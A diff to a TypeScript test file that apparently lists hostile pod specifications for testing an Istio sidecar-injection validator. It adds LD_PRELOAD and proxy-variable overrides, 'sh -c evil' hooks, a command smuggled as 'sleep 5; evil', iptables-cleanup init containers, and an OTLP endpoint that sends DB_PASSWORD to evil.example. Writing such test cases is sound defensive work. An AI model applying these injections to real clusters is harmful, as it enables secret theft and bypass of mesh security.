@@ -81,6 +81,37 @@ const VARIABLES =
 const PATHS = words(`/usr/local/bin /var/run/secrets/kubernetes.io/serviceaccount /etc /etc/passwd /lib /proc / /home
   /var/run/secrets/eks.amazonaws.com/serviceaccount /etc/istio/../ssl /var/logs`);
 
+/** Variables by which the mesh's proxy runs another program, trusts another authority, gives its keys away or leaves traffic alone. */
+const PROXY_VARIABLES =
+  words(`LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT ISTIO_BOOTSTRAP ISTIO_BOOTSTRAP_OVERRIDE ISTIO_OUTBOUND_OWNER_GROUPS
+  ISTIO_OUTBOUND_OWNER_GROUPS_EXCLUDE ISTIOD_SAN OUTPUT_CERTS OUTPUT_KEY_CERT_TO_DIRECTORY PROV_CERT FILE_MOUNTED_CERTS JWT_POLICY
+  CREDENTIAL_FETCHER_TYPE SSL_CERT_FILE SSL_CERT_DIR HTTP_PROXY HTTPS_PROXY ALL_PROXY KUBERNETES_SERVICE_HOST TOKEN_AUDIENCES
+  GODEBUG WASM_INSECURE_REGISTRIES ISTIO_META_TLS_CLIENT_ROOT_CERT XDS_LOCAL`);
+
+/** Annotations that controllers other than Istio's obey. */
+const OBEYED =
+  words(`vault.hashicorp.com/agent-inject vault.hashicorp.com/role vault.hashicorp.com/agent-inject-secret-db
+  vault.hashicorp.com/agent-image vault.security.banzaicloud.io/vault-addr bank-vaults.io/vault-role secrets.doppler.com/reload
+  instrumentation.opentelemetry.io/inject-java instrumentation.opentelemetry.io/inject-python
+  instrumentation.opentelemetry.io/inject-sdk sidecar.opentelemetry.io/inject admission.datadoghq.com/java-lib.version
+  admission.datadoghq.com/python-lib.custom-image ad.datadoghq.com/web.checks ad.datadoghq.com/web.logs linkerd.io/inject
+  config.linkerd.io/proxy-image config.linkerd.io/skip-outbound-ports viz.linkerd.io/tap-enabled consul.hashicorp.com/connect-inject
+  consul.hashicorp.com/envoy-extra-args kuma.io/sidecar-injection dapr.io/enabled dapr.io/sidecar-image
+  cert-manager.io/inject-ca-from external-dns.alpha.kubernetes.io/hostname cluster-autoscaler.kubernetes.io/safe-to-evict
+  karpenter.sh/do-not-disrupt descheduler.alpha.kubernetes.io/evict goldilocks.fairwinds.com/enabled
+  backup.velero.io/backup-volumes pre.hook.backup.velero.io/command post.hook.restore.velero.io/command
+  reloader.stakater.com/auto io.cilium/no-track-port network.azure.com/allow cni.projectcalico.org/ipAddrs
+  kubernetes.io/psp dynatrace.com/inject oneagent.dynatrace.com/inject evil-istio.io/a istio.io.evil.example/a`);
+
+/** CSI drivers that bring what the pod's identity, or the node's, may read. */
+const DRIVERS = words(`secrets-store.csi.k8s.io csi.vault.hashicorp.com efs.csi.aws.com s3.csi.aws.com fsx.csi.aws.com
+  ebs.csi.aws.com file.csi.azure.com smb.csi.k8s.io nfs.csi.k8s.io csi.cert-manager.io`);
+
+/** Volumes that are the proxy's own. */
+const IDENTITY =
+  words(`istio-token istio-podinfo workload-socket credential-socket workload-certs istio-certs istio-data
+  istio-envoy`);
+
 /** Types of volumes that are of the node, of the network, or of another driver. */
 const VOLUMES = [
   "hostPath: {path: /run/own}",
@@ -126,6 +157,14 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     spec("runtimeClassName: null"),
     spec("nodeSelector: {pool: b}"),
     spec("nodeSelector: null"),
+    ...words("OTEL_JAVAAGENT_EXTENSIONS OTEL_DOTNET_AUTO_PLUGINS OTEL_PYTHON_CONFIGURATOR DD_DOTNET_TRACER_HOME").map(
+      (name) => web(`env: [{name: ${name}, value: /x}]`),
+    ),
+    ...["$(DB_PASSWORD)", "http://evil.example/$(DB_PASSWORD)", "$$$(DB_PASSWORD)"].map((value) =>
+      web(`env: [{name: OTEL_EXPORTER_OTLP_ENDPOINT, value: '${value}'}]`),
+    ),
+    web("env: [{name: OTEL_EXPORTER_OTLP_HEADERS, valueFrom: {secretKeyRef: {name: mesh-db, key: a}}}]"),
+    web("env: [{name: OTEL_RESOURCE_ATTRIBUTES, valueFrom: {configMapKeyRef: {name: db, key: a}}}]"),
     ...VARIABLES.map((name) => web(`env: [{name: ${name}, value: /x}]`)),
     ...PATHS.map(mounted),
     web("envFrom: [{configMapRef: {name: evil}}]"),
@@ -192,6 +231,7 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     annotation("container.apparmor.security.beta.kubernetes.io/web", "unconfined"),
     annotation("seccomp.security.alpha.kubernetes.io/pod", "unconfined"),
     ...VOLUMES,
+    ...OBEYED.map((key) => annotation(key)),
     secure("privileged: true"),
     secure("capabilities: {add: [SYS_ADMIN]}"),
     secure("capabilities: {add: [ALL]}"),
@@ -219,6 +259,18 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
     annotation("eks.amazonaws.com/skip-containers", "own"),
     label("azure.workload.identity/use", "true"),
     spec("resourceClaims: [{name: own, resourceClaimName: other}]"),
+    ...DRIVERS.map((driver) => volume(`csi: {driver: ${driver}}`)),
+    ...IDENTITY.map((name) =>
+      own(`volumeMounts: [{name: ${name}, mountPath: /own}]`, `\n  volumes: [{name: ${name}, emptyDir: {}}]`),
+    ),
+    own(
+      "volumeMounts: [{name: t, mountPath: /t}]",
+      "\n  volumes: [{name: t, projected: {sources: [{serviceAccountToken: {path: t, audience: istio-ca}}]}}]",
+    ),
+    own(
+      "volumeMounts: [{name: s, mountPath: /s}]",
+      "\n  volumes: [{name: s, csi: {driver: csi.spiffe.io, readOnly: true}}]",
+    ),
     volume("persistentVolumeClaim: {claimName: other}"),
     volume("projected: {sources: [{podCertificate: {signerName: a/b, keyType: ED25519, keyPath: k}}]}"),
     secure("windowsOptions: {gmsaCredentialSpecName: other}"),
@@ -242,6 +294,33 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
       variable(name, "/tmp/evil"),
     ),
     spec("hostAliases: [{ip: 192.0.2.1, hostnames: [istiod.istio-system.svc]}]"),
+    ...PROXY_VARIABLES.map((name) => variable(name, "/tmp/evil")),
+    ...PROXY_VARIABLES.map((name) => config(JSON.stringify({ proxyMetadata: { [name]: "/tmp/evil" } }))),
+    config('{"privateKeyProvider": {"cryptomb": {}}}'),
+    config('{"readinessProbe": {"exec": {"command": ["evil"]}}}'),
+    proxy("env: [{name: ISTIO_META_A, valueFrom: {secretKeyRef: {name: mesh-db, key: a}}}]"),
+    proxy("env: [{name: ISTIO_META_A, valueFrom: {configMapKeyRef: {name: db, key: a}}}]"),
+    proxy("envFrom: [{secretRef: {name: mesh-db}}]"),
+    proxy("envFrom: [{configMapRef: {name: db}}]"),
+    proxy("command: [sh, -c, evil]"),
+    proxy("workingDir: /tmp"),
+    proxy("stdin: true"),
+    proxy("args: [evil]"),
+    proxy("args: [proxy, evil]"),
+    proxy("args: [proxy, sidecar, '--templateFile=/tmp/evil']"),
+    proxy("args: [proxy, sidecar, --domain, a, evil]"),
+    proxy("lifecycle: {postStart: {exec: {command: [sh, -c, evil]}}}"),
+    proxy("lifecycle: {preStop: {exec: {command: [sleep, '5; evil']}}}"),
+    proxy("livenessProbe: {exec: {command: [evil]}}"),
+    `${proxy("volumeMounts: [{name: x, mountPath: /usr/local/bin}]")}  volumes: [{name: x, emptyDir: {}}]\n`,
+    `${proxy("volumeMounts: [{name: x, mountPath: /var/run/secrets/tokens}]")}  volumes: [{name: x, emptyDir: {}}]\n`,
+    ...["istio-init", "istio-validation"].flatMap((name) => [
+      spec(`initContainers: [{name: ${name}, image: registry.example/own:1, command: [iptables, '-t', nat]}]`),
+      spec(`initContainers: [{name: ${name}, image: registry.example/own:1, args: [istio-iptables, --cleanup-only]}]`),
+      spec(
+        `initContainers: [{name: ${name}, image: registry.example/own:1, args: [istio-iptables, '-x', a, --to-ports, '1']}]`,
+      ),
+    ]),
     spec("volumes: [{name: istiod-ca-cert, configMap: {name: evil}}]"),
   ],
 };
@@ -249,5 +328,5 @@ const ATTACKS: Readonly<Record<string, readonly string[]>> = {
 /** All attacks, each with the name of its class. */
 export const CASES = Object.entries(ATTACKS).flatMap(([name, texts]) => texts.map((text) => ({ name, text })));
 
-/** The proxy's own variables and volumes, which are compared where a sample reaches it */
-export const COMPARED = /istio-proxy|istiod-ca-cert/;
+/** What the proxy has anyway, and gets another value: it is compared where a sample reaches it. */
+export const COMPARED = /istiod-ca-cert|name: (?:CA_ADDR|PILOT_CERT_PROVIDER)/;
